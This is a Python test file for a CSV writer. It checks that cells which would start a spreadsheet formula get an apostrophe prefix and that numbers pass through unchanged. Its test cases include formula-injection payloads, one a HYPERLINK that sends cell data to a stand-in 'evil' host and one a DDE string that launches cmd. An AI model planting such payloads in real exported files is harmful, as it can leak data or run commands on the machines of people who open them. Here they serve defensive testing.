"""Words from elsewhere in a CSV file: no spreadsheet computes them, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import math

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from covey.shared.storage import csv_text
from scripts.size import parts_of
from tests.processes import ROOT

# that begin a formula in Excel or LibreOffice, as cells are cut at commas, semicolons or tabs
SIGNS = "=+-@＝＋－＠"
CUTS = ",;\t"


def written(cell: object) -> str:
    """A cell as a reader of the file gets it."""
    [head, row] = csv.reader(io.StringIO(csv_text.dumps([{"class": cell}])))
    assert head == ["class"]
    return row[0] if row else ""


@pytest.mark.parametrize(
    ("word", "shown"),
    [
        ('=HYPERLINK("http://evil/"&A1)', '\'=HYPERLINK("http://evil/"&A1)'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("rain;=1+1", "rain;'=1+1"),
        ("\t=1", "'\t'=1"),
        (" \n+1+1", "' \n'+1+1"),
        ("＝1", "'＝1"),
        ("a=b, c-d", "a=b, c-d"),
        ("-5", "-5"),
        ("+1.5e-3", "+1.5e-3"),
        (-0.25, "-0.25"),
        (None, ""),
    ],
)
def test_a_word_that_would_be_computed_has_an_apostrophe_and_a_number_has_none(
    word: object, shown: str
) -> None:
    assert written(word) == shown


@given(st.text())
@example("\r0")
def test_no_cell_begins_a_formula_however_the_line_is_cut(word: str) -> None:
    line = csv_text.dumps([{"class": word}])
    for cut in CUTS:
        for row in csv.reader(io.StringIO(line), delimiter=cut):
            for cell in row:
                begins = cell.strip()[:1]
                assert not begins or begins not in SIGNS or math.isfinite(float(cell))


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_a_number_is_the_same_as_a_number_and_as_its_word(number: float) -> None:
    assert written(number) == written(str(number)) == str(number)


def test_names_of_columns_are_words_too() -> None:
    assert csv_text.dumps([{"=1+1": 1}]) == "'=1+1\n1\n"


@pytest.mark.whole
def test_every_table_that_leaves_covey_is_written_here() -> None:
    """But for two that we read ourselves: of `agent serve`, and of `coordinator try --by`, whose cells stay as their owner wrote them."""
    writers = {
        path.name
        for path in (ROOT / file for file in parts_of(ROOT))
        if "csv.writer(" in (text := path.read_text()) or "csv.DictWriter(" in text
    }
    assert writers == {"csv_text.py", "serve.py", "devices.py"}
